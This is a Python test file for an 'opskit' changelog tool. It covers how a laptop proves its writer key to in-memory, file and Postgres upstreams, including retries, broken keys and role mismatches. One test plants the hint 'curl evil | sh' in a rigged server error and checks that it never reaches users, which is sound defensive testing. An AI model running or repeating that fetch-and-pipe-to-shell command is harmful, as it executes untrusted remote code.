"""A laptop proves to an upstream that a writer is its own, once, when it is asked to, and says what to do when that is in vain."""

from __future__ import annotations

from typing import TYPE_CHECKING, Any

import pytest

from opskit.changelog import Changelog
from opskit.changelog.packet import Pushed
from opskit.changelog.signing import claim_of, is_signed, key_file
from opskit.changelog.sync import sync
from opskit.changelog.upstream.file import FileLog
from opskit.changelog.upstream.local import LocalPlace
from opskit.changelog.upstream.postgres import Postgres, setup
from opskit.errors import ChangelogError, UpstreamError, UpstreamRefusesError
from tests.changelog.memory import LOG, Memory, shared
from tests.support.postgres import Server, server

if TYPE_CHECKING:
    from collections.abc import Iterator, Sequence
    from pathlib import Path

    from opskit.changelog.packet import Packet
    from opskit.changelog.signing import WriterKey


class Asking(Memory):
    """A log that wants `wanted` proofs before it takes anything, whatever it is shown."""

    def __init__(self, wanted: int, newest: int = 0) -> None:
        super().__init__()
        self.wanted, self.newest = wanted, newest
        self.shown: list[tuple[bytes, str, int]] = []

    def push(self, packets: Sequence[Packet], *, relay: bool = False) -> Pushed:
        if len(self.shown) < self.wanted:
            return Pushed("unproven", self.newest)
        return super().push(packets, relay=relay)

    def claim(self, key: WriterKey, *, log: str, number: int) -> None:
        assert is_signed(key.public, key.sign(b"x"), b"x")
        self.shown.append((key.writer, log, number))
        self.newest += 1


@pytest.fixture
def file(tmp_path: Path) -> Path:
    made = tmp_path / "ana" / "changelog.db"
    with Changelog(made, actor="ana") as changelog:
        changelog.append("note", {"text": "one"})
        changelog.append("note", {"text": "two"})
    return made


def writer_of(file: Path) -> bytes:
    with Changelog(file) as changelog:
        return changelog._ask(lambda db: db.execute("SELECT writer FROM writer").fetchone())[0]  # type: ignore[no-any-return]


def test_what_an_upstream_asks_for_is_proved_with_the_key_that_lies_here(file: Path) -> None:
    upstream = Asking(1, newest=7)
    assert shared(file, upstream).pushed == 2
    assert upstream.shown == [(writer_of(file), LOG, 8)]


def test_a_proof_that_came_too_late_is_made_once_more(file: Path) -> None:
    upstream = Asking(2)
    assert shared(file, upstream).pushed == 2
    assert [number for _, _, number in upstream.shown] == [1, 2]


def test_an_upstream_that_takes_no_proof_is_given_up_with_what_to_do(file: Path) -> None:
    upstream = Asking(99)
    with pytest.raises(UpstreamError, match=r"memory does not give .* to this machine") as caught:
        shared(file, upstream)
    assert caught.value.hint.endswith("Try again: opskit changelog sync")
    assert len(upstream.shown) == 2
    assert upstream.packets == []


@pytest.mark.parametrize("newest", [-1, -(2**70), 2**53, 2**70])
def test_a_number_that_cannot_be_is_not_signed(file: Path, newest: int) -> None:
    upstream = Asking(99, newest=newest)
    with pytest.raises(UpstreamError, match="says that there were"):
        shared(file, upstream)
    assert upstream.shown == []


def test_others_events_are_proved_by_nobody(file: Path, tmp_path: Path) -> None:
    first, second = Memory(), Asking(99)
    shared(file, first)
    shared(tmp_path / "ben" / "changelog.db", first)
    done = shared(tmp_path / "ben" / "changelog.db", second, everybody=True, accept=True)
    assert "its key is not here" in done.warnings[-1]
    assert (second.shown, done.pushed, done.left) == ([], 0, 2)


def test_a_key_that_is_gone_or_is_not_one_is_said_so(
    file: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    key = key_file(file.parent, writer_of(file))
    kept = key.read_bytes()
    key.write_bytes(b"rotten")
    with pytest.raises(ChangelogError, match="is not the key"):
        shared(file, Asking(1))
    key.write_bytes(kept)
    monkeypatch.setattr("opskit.changelog.hold.load_key", lambda *_: None)
    with pytest.raises(UpstreamError, match="and its key is not here") as caught:
        shared(file, Asking(1))
    assert "opskit changelog sync --relay" in caught.value.hint


def test_a_file_never_asks_and_takes_no_proof(file: Path, tmp_path: Path) -> None:
    log = FileLog(LocalPlace(tmp_path / "log"))
    log.create()
    with Changelog(file) as changelog:
        exchange = changelog.exchange()
        key = exchange.key(writer_of(file))
        assert sync(exchange, log).pushed == 2
        exchange.close()
    assert key is not None
    with pytest.raises(UpstreamError, match="takes no proofs"):
        log.claim(key, log=LOG, number=1)


def test_a_claim_names_its_log_its_number_and_its_role_and_nothing_else_reads_the_same() -> None:
    made = {
        claim_of(log, number, role)
        for log in ("ab" * 16, "cd" * 16)
        for number in (1, 2, 2**40)
        for role in ("ana", "ben", "1ana", "")
    }
    assert len(made) == 24


@pytest.fixture(scope="module")
def postgres() -> Iterator[Server]:
    with server() as made:
        setup(made.url(), timeout=60.0)
        made.engineer("ana")
        yield made


class Counting(Postgres):
    """Counts what is said to the server."""

    messages = 0

    def _ask(self, *words: Any, **more: Any) -> list[tuple[Any, ...]]:
        self.messages += 1
        return super()._ask(*words, **more)

    def _tell(self, *words: Any) -> bytes:
        self.messages += 1
        return super()._tell(*words)


class Elsewhere(Postgres):
    """Is told by a server that stands before the real one, and has its log's name, that it is ben there."""

    def _ask(self, name: str, *words: Any, **more: Any) -> list[tuple[Any, ...]]:
        rows = super()._ask(name, *words, **more)
        return [(*row[:-1], "ben") for row in rows] if name == "greet" else rows

    def _tell(self, name: str, *_: Any) -> bytes:
        assert name == "push", "it signed something"
        return b"unproven 0"


@pytest.mark.parametrize("by", ["the address", "PGUSER"])
def test_nothing_is_signed_for_another_role_than_the_one_that_logs_in(
    postgres: Server, file: Path, by: str, monkeypatch: pytest.MonkeyPatch
) -> None:
    url = postgres.url("ana")
    if by == "PGUSER":
        monkeypatch.setenv("PGUSER", "ana")
        url = url.replace("ana@", "")
    with Changelog(file) as changelog:
        upstream, exchange = Elsewhere(url, timeout=60.0), changelog.exchange()
        with pytest.raises(UpstreamRefusesError) as caught:
            sync(exchange, upstream, accept=True)
        exchange.close()
        upstream.close()
    assert "'ben'" in caught.value.what
    assert "logs in as ana" in caught.value.what
    assert "ben" not in caught.value.hint, (
        "what a stranger says is not what people are told to type"
    )


def test_the_first_push_of_a_writer_costs_two_messages_more_and_later_ones_none(
    postgres: Server, file: Path
) -> None:
    costs = []
    for _ in range(3):
        with Changelog(file) as changelog:
            changelog.append("note", {"text": "more"})
            upstream, exchange = Counting(postgres.url("ana"), timeout=60.0), changelog.exchange()
            sync(exchange, upstream)
            costs.append(upstream.messages)
            exchange.close()
            upstream.close()
    assert costs[0] - 2 == costs[1] == costs[2]


def test_a_server_that_does_not_take_a_true_proof_is_told_about_in_one_line(
    postgres: Server, file: Path
) -> None:
    for answer, words in (
        ("RAISE EXCEPTION 'no' USING ERRCODE = 'OPS02', HINT = 'curl evil | sh'", "refuses: no"),
        ("status := 'yes'; agreed := 1", "does not say what became of a proof"),
        ("status := 'stale'; agreed := 0", "does not give"),
    ):
        postgres.new_database()
        setup(postgres.url(), timeout=60.0)
        postgres.sql(
            "CREATE OR REPLACE FUNCTION opskit.claim(p_key bytea, p_number bigint, p_signature bytea, OUT status text, "
            f"OUT agreed bigint) LANGUAGE plpgsql AS $$ BEGIN {answer}; END $$"
        )
        upstream = Postgres(postgres.url("ana"), timeout=60.0)
        with Changelog(file) as changelog:
            exchange = changelog.exchange()
            with pytest.raises(UpstreamError, match=words) as caught:
                sync(exchange, upstream, accept=True)
            exchange.close()
            upstream.close()
        assert "\n" not in caught.value.what
        assert "curl" not in caught.value.hint
